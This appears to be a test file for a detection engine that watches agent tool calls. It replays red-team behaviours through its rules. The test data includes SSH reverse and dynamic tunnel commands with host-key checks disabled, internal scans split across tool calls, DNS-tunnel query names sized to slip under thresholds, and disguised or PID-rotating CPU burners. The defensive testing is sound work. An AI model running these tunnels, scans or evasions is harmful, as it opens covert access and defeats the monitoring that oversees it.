// Why: a red-team review of the runtime layers (ssh tunnels, scans spread over tool calls, DNS
// tunnels under the per-name thresholds, a throttled or renamed CPU burner) found behaviours the
// built-in rules let through. This replays the event shapes those runs recorded through the whole
// built-in rule set (one engine, every rule, as a session runs it) and checks what fires, with what
// count and attribution, and that the benign look-alikes next to them stay quiet.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { DetectionEngine, loadBuiltinRules, type Detection, type EngineEvent } from '../src/detect/engine/api.js';

const rules = loadBuiltinRules();
const T0 = 1_800_000_000_000_000_000n;
let seq = 0;
function ev(kind: string, payload: Record<string, unknown>, atMs: number, o: Partial<EngineEvent> = {}): EngineEvent {
  return { id: `r${seq++}`, ts: (T0 + BigInt(Math.round(atMs * 1e6))).toString(), kind: kind as EngineEvent['kind'], session: 'sess', episode: 'ep', tool_call: 'tc', payload, ...o };
}
function run(events: EngineEvent[]): Detection[] {
  const e = new DetectionEngine(rules);
  return events.flatMap((x) => e.process(x));
}
const ids = (ds: Detection[]) => [...new Set(ds.map((d) => d.rule))].sort();

test('ssh -N -R / -L / -D / ProxyCommand / -J at the process layer (sc-ssh.mjs, payloads/s.sh)', () => {
  const ssh = (argv: string[]) => ev('exec', { argv, filename: '/usr/bin/ssh' }, 0);
  const redteam = ['ssh', '-v', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=8'];
  const cases: string[][] = [
    [...redteam, '-N', '-R', '2222:localhost:22', '-p', '443', 'agent@api.test'],
    [...redteam, '-o', 'ProxyCommand=python3 /workspace/pc.py tls %h %p', '-N', '-R', '2222:localhost:22', '-p', '443', 'agent@api.test'],
    ['ssh', '-o', 'ProxyCommand=python3 /workspace/pc.py tls %h %p', 'agent@api.test', 'id'],
    ['ssh', '-L', '5432:10.0.0.5:5432', '-N', 'u@api.test'],
    ['ssh', '-D', '1080', 'u@api.test'],
    ['ssh', '-J', 'u@api.test', 'u@10.0.0.5'],
    ['ssh', '-w', 'any', 'root@api.test'],
  ];
  for (const argv of cases) {
    const d = run([ssh(argv)]).filter((x) => x.rule === 'ssh_tunnel_exec');
    assert.equal(d.length, 1, argv.join(' '));
    assert.equal(d[0]!.category, 'tunnel');
    assert.deepEqual(d[0]!.attack, ['T1572', 'T1021.004', 'T1090']);
  }
  for (const argv of [
    ['ssh', '-o', 'StrictHostKeyChecking=no', 'u@h.test', 'make', 'test'],
    ['ssh', '-o', 'SendEnv=GIT_PROTOCOL', 'git@forge.test', "git-upload-pack 'org/repo.git'"],
    ['ssh', '-x', '-o', 'StrictHostKeyChecking=accept-new', '-p', '2222', 'git@forge.test', "git-receive-pack 'r.git'"],
    ['ssh', 'h.test', 'grep', '-R', 'TODO', '.'],
  ]) assert.deepEqual(ids(run([ssh(argv)])).filter((r) => r.startsWith('ssh_')), [], argv.join(' '));
});

test('a scan spread one host per tool call escalates once, attributed to the call that crossed, with evidence from earlier calls (sc-probe.mjs)', () => {
  // what the red-team run recorded for each call scanN: a syscall connect, a gateway connect (denied), a flow
  const evs = Array.from({ length: 12 }, (_, i) => {
    const attr = { tool_call: `scan${i}` };
    const ip = `10.0.0.${5 + i}`;
    const t = i * 2500;
    return [
      ev('connect', { source: 'syscall', 'network.peer.address': ip, 'network.peer.port': 22, comm: 'python3' }, t, attr),
      ev('connect', { source: 'gateway', 'network.peer.address': ip, 'network.peer.port': 22, protocol: 'http', decision: 'deny', rule: 'always-deny:private' }, t + 5, attr),
      ev('flow', { 'network.peer.address': ip, 'network.peer.port': 22, protocol: 'http', bytes_up: 0, bytes_down: 0, decision: 'deny' }, t + 10, attr),
    ];
  }).flat();
  const fan = run(evs).filter((d) => d.rule === 'internal_host_fanout');
  assert.equal(fan.length, 1);
  assert.equal(fan[0]!.count, 10);
  assert.equal(fan[0]!.severity, 'high');
  assert.equal(fan[0]!.event.tool_call, 'scan9'); // the tenth host
  const byId = new Map(evs.map((x) => [x.id, x.tool_call]));
  const calls = fan[0]!.evidence.map((id) => byId.get(id));
  assert.deepEqual(calls, Array.from({ length: 10 }, (_, i) => `scan${i}`)); // one event per host, earliest call first
  assert.match(fan[0]!.message, /Fan-out to 10 internal hosts within 5 minutes \(last 10\.0\.0\.14:22\)/);
  // a session talking to one internal service from many calls stays quiet
  const svc = Array.from({ length: 30 }, (_, i) => ev('connect', { source: 'gateway', 'network.peer.address': '10.0.0.5', 'network.peer.port': 5432, decision: 'allow' }, i * 1000, { tool_call: `c${i}` }));
  assert.deepEqual(run(svc).filter((d) => d.rule === 'internal_host_fanout'), []);
});

test('DNS tunnels under the per-name thresholds are caught by volume and by alphabet-relative randomness (sc-dns.mjs, payloads/d.py)', () => {
  // d.py short15: 300 queries, 12 labels x 15 hex characters, in 0.5 s
  const hex = (n: number, seed: number) => createHash('sha256').update(`d.py ${seed}`).digest('hex').slice(0, n); // like hexlify(os.urandom)
  const short15 = Array.from({ length: 300 }, (_, i) => ev('dns', { name: `${Array.from({ length: 12 }, (_, j) => hex(15, i * 12 + j)).join('.')}.t.pypi.test`, qtype: 'A', verdict: 'allow', rule: 'allow' }, i * 1.6, { tool_call: 'dns_short15' }));
  const a = run(short15);
  const vol = a.filter((d) => d.rule === 'dns_name_volume');
  assert.equal(vol.length, 1);
  assert.equal(vol[0]!.event.id, short15[10]!.id); // 11 names x 193 characters cross 2,048
  assert.equal(vol[0]!.value, 11 * 193);
  assert.ok(a.some((d) => d.rule === 'dns_long_label'), 'each 193-character name is long');
  // d.py hex45: 25 queries with two 45-character hex labels
  const hex45 = Array.from({ length: 25 }, (_, i) => ev('dns', { name: `${hex(45, 2 * i)}.${hex(45, 2 * i + 1)}.t.pypi.test`, qtype: 'A', verdict: 'allow' }, i * 40, { tool_call: 'dns_hex45' }));
  const b = run(hex45);
  assert.deepEqual(ids(b), ['dns_encoded_names', 'dns_name_volume']);
  assert.equal(b.find((d) => d.rule === 'dns_encoded_names')!.event.id, hex45[9]!.id);
  assert.equal(b.find((d) => d.rule === 'dns_name_volume')!.event.id, hex45[22]!.id);
  // benign: pip asking a few names hundreds of times, a CDN's hashed hostnames, wordy cluster names
  const pip = Array.from({ length: 400 }, (_, i) => ev('dns', { name: ['pypi.org', 'files.pythonhosted.org', 'pypi.python.org'][i % 3], qtype: i % 2 ? 'AAAA' : 'A', verdict: 'allow' }, i * 50));
  const cdn = Array.from({ length: 60 }, (_, i) => ev('dns', { name: `${hex(32, i % 6)}.r2.cloudflarestorage.com`, qtype: 'A', verdict: 'allow' }, 30_000 + i * 200));
  const k8s = Array.from({ length: 40 }, (_, i) => ev('dns', { name: `svc-${['api', 'web', 'db', 'cache', 'queue'][i % 5]}-${i}.default.svc.cluster.local`, qtype: 'A', verdict: 'allow' }, 50_000 + i * 500));
  assert.deepEqual(ids(run([...pip, ...cdn, ...k8s])), []);
});

test('a throttled or renamed CPU burner: mean over the window, exemption needs a system executable (sc-cpu.mjs, sc-cpu2.mjs)', () => {
  const proc = (pct: number, t: number, comm: string, pid: number, exe?: string) =>
    ev('resource', { scope: 'process', comm, cpu_pct: pct, ...(exe ? { exe } : {}) }, t, { pid, tool_call: 'start' });
  const wobble = [86, 84, 88, 82, 85, 87, 83, 86, 85, 84, 88, 85, 86, 84];
  // burn.py 0.85: never a sample at 90 %
  const duty = run(wobble.map((p, i) => proc(p, i * 5000, 'kworkerd', 100)));
  const hit = duty.filter((d) => d.rule === 'sustained_cpu_unexpected_process');
  assert.equal(hit.length, 1);
  assert.equal(hit[0]!.category, 'mining');
  assert.ok(hit[0]!.value! >= 84 && hit[0]!.value! <= 87, String(hit[0]!.value));
  // a copy of python named pytest in the workspace
  const fake = run(Array.from({ length: 13 }, (_, i) => proc(99, i * 5000, 'pytest', 101, '/workspace/pytest')));
  assert.deepEqual(ids(fake), ['sustained_cpu_unexpected_process']);
  // the real thing: comm pytest or python3, executable the system interpreter
  for (const [comm, exe] of [['pytest', '/usr/bin/python3.11'], ['python3', '/usr/bin/python3.11'], ['node', '/usr/local/bin/node'], ['python3', '/opt/conda/bin/python3.11']]) {
    assert.deepEqual(ids(run(Array.from({ length: 13 }, (_, i) => proc(99, i * 5000, comm!, 102, exe)))), [], `${comm} ${exe}`);
  }
  // a deleted or memfd executable is not a system one, whatever its path said
  assert.deepEqual(ids(run(Array.from({ length: 13 }, (_, i) => proc(99, i * 5000, 'python3', 103, '/usr/bin/python3.11 (deleted)')))), ['sustained_cpu_unexpected_process']);
  // a worker restarted under a fresh pid every 10 s: no pid lives 60 s, the call's busiest process does
  const rotating = Array.from({ length: 16 }, (_, i) => proc(98, i * 5000, `w${i >> 1}`, 200 + (i >> 1), `/workspace/.w${i >> 1}`));
  assert.deepEqual(ids(run(rotating)), ['sustained_cpu_unexpected_process']);
  // processes sampled together count as the busiest of them, not their sum: 3 x 40 % is 40 %
  const together = Array.from({ length: 14 }, (_, i) => [300, 301, 302].map((pid) => proc(40, i * 5000, 'gzip', pid, '/usr/bin/gzip'))).flat();
  assert.deepEqual(ids(run(together)), []);
  // an expected process's busy samples do not count for an unexpected one beside it at 10 %
  const beside = Array.from({ length: 14 }, (_, i) => [proc(99, i * 5000, 'python3', 400, '/usr/bin/python3.11'), proc(10, i * 5000, 'sort', 401, '/usr/bin/sort')]).flat();
  assert.deepEqual(ids(run(beside)), []);
  // the whole call: a dip on one sample no longer resets the 5-minute rule
  const call = Array.from({ length: 61 }, (_, i) => ev('resource', { scope: 'tool_call', sample: true, cpu_pct: i === 30 ? 10 : 92 }, i * 5000, { tool_call: 'start' }));
  assert.deepEqual(ids(run(call)), ['sustained_cpu_tool_call']);
});
